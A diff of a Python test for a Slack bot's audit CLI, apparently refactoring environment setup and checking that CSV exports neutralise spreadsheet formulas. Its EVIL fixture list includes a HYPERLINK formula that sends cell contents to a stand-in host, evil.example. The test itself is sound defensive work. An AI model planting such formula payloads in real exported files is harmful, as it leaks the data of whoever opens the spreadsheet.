@@ -6,12 +6,10 @@ import csv
 import io
 from datetime import UTC, datetime
 
-from cryptography.fernet import Fernet
-
 from bot.db import repo
 from bot.db.engine import create_engine, create_session_factory
 from bot.db.migrate import upgrade
-from tests.integration.test_cli_and_server import _base_env, _run
+from tests.support import cli_env, run_cli
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -41,16 +39,8 @@ async def test_formula_cells_are_exported_as_text(tmp_path) -> None:
             )
         await repo.add_audit(session, at=now, team_id="T1", actor="U1", action="link", target="ok")
     await engine.dispose()
-    env = {
-        **_base_env(tmp_path),
-        "SLACK_SIGNING_SECRET": "0123456789abcdef",
-        "SLACK_BOT_TOKEN": "xoxb-1",
-        "QUESTETRA_BASE_URL": "http://127.0.0.1:9/",
-        "QUESTETRA_BASIC_AUTH": "true",
-        "BOT_ENCRYPTION_KEYS": Fernet.generate_key().decode(),
-        "DATABASE_URL": f"sqlite:///{tmp_path / 'bot.db'}",
-    }
-    result = _run(["audit", "--since", "7d", "--format", "csv"], env, tmp_path)
+    env = cli_env(tmp_path)
+    result = run_cli(["audit", "--since", "7d", "--format", "csv"], env, tmp_path)
     assert result.returncode == 0, result.stderr
     rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
     assert len(rows) == len(EVIL) + 1
